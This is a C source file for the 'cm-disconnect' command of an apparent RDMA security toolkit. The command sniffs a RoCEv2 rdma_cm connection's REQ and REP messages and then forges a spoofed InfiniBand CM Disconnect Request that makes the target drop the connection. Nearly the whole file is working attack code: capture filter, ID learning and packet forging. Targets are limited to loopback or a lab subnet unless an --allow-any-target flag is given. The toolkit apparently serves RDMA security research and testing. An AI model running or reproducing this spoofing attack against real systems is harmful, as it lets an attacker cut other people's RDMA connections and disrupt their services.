/* SPDX-License-Identifier: MIT */
/*
 * cm-disconnect (NeVerMore 4.3): forge an IB CM Disconnect Request so that
 * one side of an rdma_cm connection receives RDMA_CM_EVENT_DISCONNECTED and
 * tears the connection down. The CM's messages travel in cleartext as UD
 * datagrams to QP1; the receiver matches a DREQ only on the two
 * communication IDs and its own QPN, which the connection's REQ and REP show
 * to anyone on the path. No rdma_cm connection, nothing to disconnect.
 */
#include <errno.h>
#include <getopt.h>
#include <pcap/pcap.h>
#include <poll.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "common/attack.h"
#include "common/capture.h"
#include "proto/cm_mad.h"
#include "proto/sniff_parse.h"

enum {
	OPT_LOCAL_ID = OPT_FIRST_PRIVATE, OPT_REMOTE_ID, OPT_REMOTE_QPN, OPT_TID, OPT_SNIFF, OPT_SNIFF_FILE,
	OPT_TIMEOUT, OPT_COUNT, OPT_DELAY, OPT_SRC_QP,
};
enum { SNAPLEN = 2048, POLL_MS = 100, DEFAULT_TIMEOUT_S = 30, MAX_COUNT = 1000 };

struct cmd_opts {
	struct forge_opts f;
	struct cm_dreq d;
	bool have_local, have_remote, have_qpn, have_tid;
	const char *sniff_iface, *sniff_file;
	uint32_t timeout_s, delay_ms, src_qp;
};

/* What the sniffer saw and learned. */
struct learned {
	uint64_t frames, cm_msgs;
	bool found;
	struct cm_conn conn;
};

static void help(FILE *f)
{
	fprintf(f, "Usage: %s cm-disconnect --dst IP --sniff IF [options]\n"
		"       %s cm-disconnect --dst IP --src IP --local-comm-id N --remote-comm-id N --remote-qpn N\n"
		"Forge an IB CM Disconnect Request (DREQ, a UD datagram to QP1) that makes the\n"
		"rdma_cm connection end at --dst report RDMA_CM_EVENT_DISCONNECTED.\n\n"
		"  --dst IP              the side to disconnect; loopback or 10.77.0.0/24\n"
		"  --src IP              spoofed sender: --dst's peer (learned with --sniff)\n"
		"  --local-comm-id N     the peer's communication ID (DREQ Local Comm ID)\n"
		"  --remote-comm-id N    --dst's communication ID (DREQ Remote Comm ID)\n"
		"  --remote-qpn N        --dst's QP number (DREQ Remote QPN, 0..0xFFFFFF)\n"
		"  --sniff IF            learn the three from the REQ and REP of the next rdma_cm\n"
		"                        connection of --dst (and --src, if given) seen on IF\n"
		"  --sniff-file FILE     learn them from a pcap file instead\n"
		"  --timeout S           --sniff: give up after S seconds (default %d)\n"
		"  --delay-ms N          wait N ms after learning before sending (default 0)\n"
		"  --tid N               MAD transaction ID (default: the REQ's when --dst is the\n"
		"                        passive side, else random)\n"
		"  --count N             send N DREQs (1..%d, default 1)\n"
		"  --src-qp N            DETH source QP (default 1, the GSI QP)\n"
		"  --iface IF            send out of IF (SO_BINDTODEVICE) from IF's own address\n"
		"  --bind IP             routing source address (default: IF's first IPv4)\n"
		"  --sport N             UDP source port (default 49152; rxe does not check it)\n"
		"  --interval-us N       pause between DREQs\n"
		"  --pcap FILE           also write the forged packets to FILE (raw IPv4 pcap)\n"
		"  --no-send             build (and --pcap) only\n"
		"  --allow-any-target    allow a --dst outside loopback and 10.77.0.0/24\n"
		"  --json                print one JSON result line on stdout\n"
		"  -h, --help\n\n"
		"Sending and live capture need CAP_NET_RAW. On the fabric, from host 3:\n"
		"  --sniff fabbr --iface fab3. Exit status: 0 sent, 1 failed (nothing learned\n"
		"  in time, send error), 2 bad usage.\n", PROG, PROG, DEFAULT_TIMEOUT_S, MAX_COUNT);
}

static const struct option cm_disconnect_long_opts[] = {
	{ "dst", required_argument, NULL, OPT_DST },
	{ "src", required_argument, NULL, OPT_SRC },
	{ "iface", required_argument, NULL, OPT_IFACE },
	{ "bind", required_argument, NULL, OPT_BIND },
	{ "sport", required_argument, NULL, OPT_SPORT },
	{ "interval-us", required_argument, NULL, OPT_INTERVAL },
	{ "pcap", required_argument, NULL, OPT_PCAP },
	{ "no-send", no_argument, NULL, OPT_NO_SEND },
	{ "allow-any-target", no_argument, NULL, OPT_ALLOW_ANY },
	{ "json", no_argument, NULL, OPT_JSON },
	{ "local-comm-id", required_argument, NULL, OPT_LOCAL_ID },
	{ "remote-comm-id", required_argument, NULL, OPT_REMOTE_ID },
	{ "remote-qpn", required_argument, NULL, OPT_REMOTE_QPN },
	{ "tid", required_argument, NULL, OPT_TID },
	{ "sniff", required_argument, NULL, OPT_SNIFF },
	{ "sniff-file", required_argument, NULL, OPT_SNIFF_FILE },
	{ "timeout", required_argument, NULL, OPT_TIMEOUT },
	{ "count", required_argument, NULL, OPT_COUNT },
	{ "delay-ms", required_argument, NULL, OPT_DELAY },
	{ "src-qp", required_argument, NULL, OPT_SRC_QP },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

static bool parse_args(int argc, char *argv[], struct cmd_opts *o, bool *want_help)
{
	bool bad = false;
	int opt;

	while ((opt = getopt_long(argc, argv, "h", cm_disconnect_long_opts, NULL)) != -1) {
		if (forge_parse_opt(&o->f, opt, optarg, &bad))
			continue;
		switch (opt) {
		case OPT_LOCAL_ID:
			bad |= !parse_u32(optarg, UINT32_MAX, &o->d.local_comm_id, "--local-comm-id");
			o->have_local = true;
			break;
		case OPT_REMOTE_ID:
			bad |= !parse_u32(optarg, UINT32_MAX, &o->d.remote_comm_id, "--remote-comm-id");
			o->have_remote = true;
			break;
		case OPT_REMOTE_QPN:
			bad |= !parse_u32(optarg, ROCE_QPN_MAX, &o->d.remote_qpn, "--remote-qpn");
			o->have_qpn = true;
			break;
		case OPT_TID:
			bad |= !parse_u64(optarg, UINT64_MAX, &o->d.tid, "--tid");
			o->have_tid = true;
			break;
		case OPT_SNIFF: o->sniff_iface = optarg; break;
		case OPT_SNIFF_FILE: o->sniff_file = optarg; break;
		case OPT_TIMEOUT: bad |= !parse_u32(optarg, 86400, &o->timeout_s, "--timeout"); break;
		case OPT_COUNT: bad |= !parse_u32(optarg, MAX_COUNT, &o->f.count, "--count"); break;
		case OPT_DELAY: bad |= !parse_u32(optarg, 600000, &o->delay_ms, "--delay-ms"); break;
		case OPT_SRC_QP: bad |= !parse_u32(optarg, ROCE_QPN_MAX, &o->src_qp, "--src-qp"); break;
		case 'h': *want_help = true; return true;
		default: return false;
		}
	}
	if (optind != argc) {
		fprintf(stderr, "%s cm-disconnect: unexpected argument `%s'\n", PROG, argv[optind]);
		return false;
	}
	return !bad;
}

/* Either --sniff/--sniff-file, or all three IDs and --src; always --dst. */
static bool check_args(struct cmd_opts *o)
{
	bool sniffing = o->sniff_iface || o->sniff_file;
	bool some_ids = o->have_local || o->have_remote || o->have_qpn;

	if (!o->f.have_dst) {
		fprintf(stderr, "%s cm-disconnect: missing --dst (see --help)\n", PROG);
		return false;
	}
	if (o->sniff_iface && o->sniff_file) {
		fprintf(stderr, "%s cm-disconnect: give --sniff or --sniff-file, not both\n", PROG);
		return false;
	}
	if (sniffing && some_ids) {
		fprintf(stderr, "%s cm-disconnect: the IDs are either sniffed or given, not both\n", PROG);
		return false;
	}
	if (!sniffing && !(o->have_local && o->have_remote && o->have_qpn && o->f.have_src)) {
		fprintf(stderr, "%s cm-disconnect: without --sniff, give --src, --local-comm-id, "
			"--remote-comm-id and --remote-qpn\n", PROG);
		return false;
	}
	if (o->f.count == 0) {
		fprintf(stderr, "%s cm-disconnect: --count must be at least 1\n", PROG);
		return false;
	}
	if (!o->timeout_s)
		o->timeout_s = DEFAULT_TIMEOUT_S;
	return target_allowed(o->f.dst_ip, o->f.allow_any);
}

/* Only RoCEv2 UD SEND Only (opcode 0x64, the first BTH byte) to QP1 (BTH bytes 5..7). */
#define CM_CAPTURE_FILTER "udp dst port 4791 and udp[8] == 0x64 and udp[13:2] == 0 and udp[15] == 1"

/* One captured frame: if it is a CM MAD, feed the learner; true once dst's connection is complete. */
static bool learn_frame(const struct cmd_opts *o, enum sniff_link link, const uint8_t *buf, size_t len,
			struct cm_learn *l, struct learned *out)
{
	const struct cm_conn *done;
	struct sniff_frame fr;
	struct roce_pkt p;
	struct cm_msg m;
	uint32_t peer;

	out->frames++;
	if (sniff_frame_parse(link, buf, len, &fr) != 0 || fr.kind != SNIFF_UDP || fr.dport != ROCE_UDP_DPORT)
		return false;
	/* A datagram with a bad ICRC never reached the CM: it teaches nothing. */
	if (roce_pkt_parse(fr.ip, fr.ip_len, &p) != 0 || !p.icrc_ok || p.opcode != ROCE_UD_SEND_ONLY ||
	    p.dest_qp != ROCE_GSI_QPN || cm_mad_parse(p.payload, p.payload_len, &m) != 0)
		return false;
	out->cm_msgs++;
	fprintf(stderr, "%s cm-disconnect: saw CM %s local comm ID 0x%08x remote 0x%08x qpn 0x%06x\n", PROG,
		cm_attr_name(m.attr_id), m.local_comm_id, m.remote_comm_id, m.qpn);
	cm_learn_msg(l, p.src_ip, p.dst_ip, &m, &done);
	if (!done || (done->active_ip != o->f.dst_ip && done->passive_ip != o->f.dst_ip))
		return false;
	peer = done->active_ip == o->f.dst_ip ? done->passive_ip : done->active_ip;
	if (o->f.have_src && peer != o->f.src_ip)
		return false;
	out->conn = *done;
	out->found = true;
	return true;
}

/* Read frames until dst's connection was learned, the file ends or the timeout passes. */
static int sniff_ids(const struct cmd_opts *o, struct learned *out)
{
	static struct cm_learn l;
	double deadline = now_s() + o->timeout_s;
	enum sniff_link link;
	char s[16];
	pcap_t *p = capture_open("cm-disconnect", o->sniff_file, o->sniff_iface, SNAPLEN, POLL_MS);
	int rc = 0;

	if (!p)
		return RSEC_E_IO;
	if (!capture_link("cm-disconnect", p, o->sniff_file ? o->sniff_file : o->sniff_iface, &link)) {
		pcap_close(p);
		return RSEC_E_PROTO;
	}
	if (o->sniff_iface && !capture_set_filter("cm-disconnect", p, CM_CAPTURE_FILTER, "capture filter")) {
		pcap_close(p);
		return RSEC_E_IO;
	}
	if (o->sniff_iface)
		fprintf(stderr, "%s cm-disconnect: listening on %s for an rdma_cm connection of %s\n", PROG,
			o->sniff_iface, ipv4_str(o->f.dst_ip, s));
	while (!out->found) {
		struct pcap_pkthdr *h;
		const u_char *data;
		int r;

		if (o->sniff_iface && now_s() >= deadline)
			break;
		r = pcap_next_ex(p, &h, &data);
		if (r == 0) {
			struct pollfd pfd = { .fd = pcap_get_selectable_fd(p), .events = POLLIN };
			if (poll(&pfd, 1, POLL_MS) < 0 && errno != EINTR) {
				rc = RSEC_E_IO;
				break;
			}
			continue;
		}
		if (r == PCAP_ERROR_BREAK)
			break;
		if (r < 0) {
			fprintf(stderr, "%s cm-disconnect: capture: %s\n", PROG, pcap_geterr(p));
			rc = RSEC_E_IO;
			break;
		}
		learn_frame(o, link, data, h->caplen, &l, out);
	}
	pcap_close(p);
	if (rc == 0 && !out->found) {
		fprintf(stderr, "%s cm-disconnect: no complete REQ/REP of %s seen (%llu frames, %llu CM messages)\n",
			PROG, ipv4_str(o->f.dst_ip, s), (unsigned long long)out->frames,
			(unsigned long long)out->cm_msgs);
		rc = RSEC_E_TIMEOUT;
	}
	return rc;
}

static int send_dreq(struct cmd_opts *o, uint64_t *sent)
{
	static uint8_t mad[CM_MAD_LEN];
	struct roce_pkt p = { .opcode = ROCE_UD_SEND_ONLY, .ack_req = true, .deth_qkey = ROCE_GSI_QKEY,
			      .deth_src_qp = o->src_qp, .payload = mad, .payload_len = sizeof(mad) };
	int rc = cm_dreq_build(&o->d, mad);

	if (rc != 0)
		return rc;
	/* forge_run fills addresses, the BTH DestQP (QP1) and the PSN (UD does not check it). */
	o->f.qpn = ROCE_GSI_QPN;
	o->f.psn = 0;
	return forge_run(&o->f, &p, sent);
}

static void report(const struct cmd_opts *o, const struct learned *l, uint64_t sent, int rc)
{
	char s1[16], s2[16];

	if (!o->f.json) {
		if (rc == 0)
			printf("cm-disconnect: %s %llu forged DREQ(s) %s -> %s: local comm ID 0x%08x, remote comm ID "
			       "0x%08x, remote QPN 0x%06x, TID 0x%016llx%s\n", o->f.no_send ? "built" : "sent",
			       (unsigned long long)sent, ipv4_str(o->f.src_ip, s1), ipv4_str(o->f.dst_ip, s2),
			       o->d.local_comm_id, o->d.remote_comm_id, o->d.remote_qpn,
			       (unsigned long long)o->d.tid, l->found ? " (learned from the wire)" : "");
		return;
	}
	struct json j;
	json_begin(&j, "cm-disconnect");
	json_str(&j, "dst", ipv4_str(o->f.dst_ip, s1));
	json_str(&j, "src", o->f.have_src ? ipv4_str(o->f.src_ip, s2) : "");
	json_boolean(&j, "learned", l->found);
	if (o->sniff_iface || o->sniff_file) {
		json_u64(&j, "frames", l->frames);
		json_u64(&j, "cm_messages", l->cm_msgs);
	}
	if (l->found)
		json_str(&j, "dst_role", l->conn.passive_ip == o->f.dst_ip ? "passive" : "active");
	json_hex(&j, "local_comm_id", o->d.local_comm_id);
	json_hex(&j, "remote_comm_id", o->d.remote_comm_id);
	json_hex(&j, "remote_qpn", o->d.remote_qpn);
	json_hex(&j, "tid", o->d.tid);
	json_hex(&j, "src_qp", o->src_qp);
	json_u64(&j, "sent", sent);
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

int cm_disconnect_main(int argc, char *argv[])
{
	struct cmd_opts o = { .f = { .count = 1 }, .src_qp = ROCE_GSI_QPN };
	struct learned l = { 0 };
	bool want_help = false;
	uint64_t sent = 0;
	int rc = 0;

	if (!parse_args(argc, argv, &o, &want_help)) {
		fprintf(stderr, "Try `%s cm-disconnect --help'.\n", PROG);
		return 2;
	}
	if (want_help) {
		help(stdout);
		return 0;
	}
	if (!check_args(&o))
		return 2;
	if (o.sniff_iface || o.sniff_file) {
		struct cm_dreq d;
		uint64_t tid = o.d.tid;

		rc = sniff_ids(&o, &l);
		if (rc == 0)
			rc = cm_conn_dreq(&l.conn, o.f.dst_ip, &d, &o.f.src_ip);
		if (rc == 0) {
			o.d = d;
			o.f.have_src = true;
			if (o.have_tid)
				o.d.tid = tid;
			else
				o.have_tid = l.conn.passive_ip == o.f.dst_ip;
		}
	}
	if (rc == 0 && !o.have_tid && getrandom(&o.d.tid, sizeof(o.d.tid), 0) != sizeof(o.d.tid))
		rc = RSEC_E_IO;
	if (rc == 0 && o.delay_ms) {
		struct timespec ts = { .tv_sec = o.delay_ms / 1000, .tv_nsec = (long)(o.delay_ms % 1000) * 1000000L };
		while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
			;
	}
	if (rc == 0 && (rc = send_dreq(&o, &sent)) != 0)
		fprintf(stderr, "%s cm-disconnect: sending failed: %s\n", PROG, rsec_strerror(rc));
	report(&o, &l, sent, rc);
	return rc == 0 ? 0 : 1;
}
